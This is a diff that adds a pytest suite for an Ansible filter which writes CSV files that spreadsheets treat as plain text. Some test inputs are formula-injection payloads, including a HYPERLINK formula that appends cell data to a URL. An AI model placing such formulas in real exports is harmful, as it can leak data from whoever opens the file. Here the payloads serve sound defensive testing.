@@ -1,0 +1,101 @@
+# Copyright (c) 2026 intune.exchange contributors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""CSV that a spreadsheet reads as text, whatever the values are."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from ansible.errors import AnsibleFilterError
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ansible_collections.intune.exchange.plugins.filter.to_csv import FilterModule
+
+to_csv = FilterModule().filters()["to_csv"]
+
+
+def read(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_headings_order_and_line_ends() -> None:
+    rows = [{"b": 1, "a": "x"}, {"a": None, "b": True}]
+    assert to_csv(rows, ["a", "b"]) == "a,b\r\nx,1\r\n,true\r\n"
+    assert to_csv(rows, {"The number": "b"}) == "The number\r\n1\r\ntrue\r\n"
+    assert to_csv([], ["a", "b"]) == "a,b\r\n"
+    assert to_csv([], ["a"], byte_order_mark=True) == "\ufeffa\r\n"
+
+
+def test_a_dot_leads_into_a_value() -> None:
+    rows = [{"accepted": {"reason": "old phones", "until": "2027-01-31"}}, {"accepted": None}, {"accepted": {}}]
+    assert read(to_csv(rows, {"Reason": "accepted.reason"})) == [["Reason"], ["old phones"], [""], [""]]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (-5, "-5"),
+        (1.5, "1.5"),
+        (False, "false"),
+        (["Default", 2], "Default; 2"),
+        ({"a": "ü"}, '{"a": "ü"}'),
+        ('two\nlines, and "quotes"', 'two\nlines, and "quotes"'),
+        ("half a pair \ud83d", "half a pair ?"),
+        ("zero\0byte", "zerobyte"),
+    ],
+)
+def test_what_values_become(value: Any, cell: str) -> None:
+    text = to_csv([{"a": value}], ["a"])
+    assert read(text) == [["a"], [cell]]
+    assert text.encode("utf-8")
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("http://example.com/"&A1,"click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "  =1",
+        "\uff1d1",
+        ["=1", "x"],
+    ],
+)
+def test_a_formula_stays_text(formula: Any) -> None:
+    [_heading, [cell]] = read(to_csv([{"a": formula}], ["a"]))
+    assert cell == "'" + ("; ".join(formula) if isinstance(formula, list) else formula)
+    [[heading]] = read(to_csv([], {"=1+1": "a"}))
+    assert heading == "'=1+1"
+
+
+@given(st.lists(st.tuples(*2 * [st.text(st.characters(codec="utf-8", exclude_characters="\0"))])))
+def test_a_reader_gets_every_cell_back(rows: list[tuple[str, str]]) -> None:
+    found = read(to_csv([{"a": one, "b": two} for one, two in rows], ["a", "b"]))[1:]
+    for cells, values in zip(found, rows, strict=True):
+        for cell, value in zip(cells, values, strict=True):
+            assert cell in (value, f"'{value}")
+            assert not cell.strip(" ").startswith(("=", "+", "-", "@"))
+
+
+@pytest.mark.parametrize(
+    ("rows", "columns", "problem"),
+    [
+        ({"a": 1}, ["a"], "list of dictionaries"),
+        (["a"], ["a"], "list of dictionaries"),
+        ([{"a": 1}], [], "needs columns"),
+        ([{"a": 1}], "a", "needs columns"),
+        ([{"a": 1}, {"b": 1}], ["a"], "row 2 has no 'a'; it has b"),
+    ],
+)
+def test_a_mistake_is_named(rows: Any, columns: Any, problem: str) -> None:
+    with pytest.raises(AnsibleFilterError, match=problem):
+        to_csv(rows, columns)
